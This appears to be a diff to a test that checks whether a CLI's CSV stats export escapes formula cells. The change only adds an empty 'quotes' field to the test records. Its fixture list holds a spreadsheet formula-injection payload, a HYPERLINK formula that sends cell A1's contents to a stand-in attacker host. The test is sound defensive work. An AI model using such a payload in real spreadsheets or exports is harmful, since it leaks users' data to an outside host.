@@ -70,7 +70,8 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+7 (495) 123-45-6
 
 def test_stats_csv_escapes_formula_cells(tmp_path):
     annotated = tmp_path / "a.jsonl"
-    annotated.write_text("".join(json.dumps({"id": f, "text": "Текст."}, ensure_ascii=False)
+    annotated.write_text("".join(json.dumps({"id": f, "text": "Текст.", "quotes": []},
+                                            ensure_ascii=False)
                                  + "\n" for f in [*FORMULAS, "обычный"]), encoding="utf-8")
     result = cli("stats", annotated, "--format", "csv", "--view", "documents")
     assert result.returncode == 0, err(result)
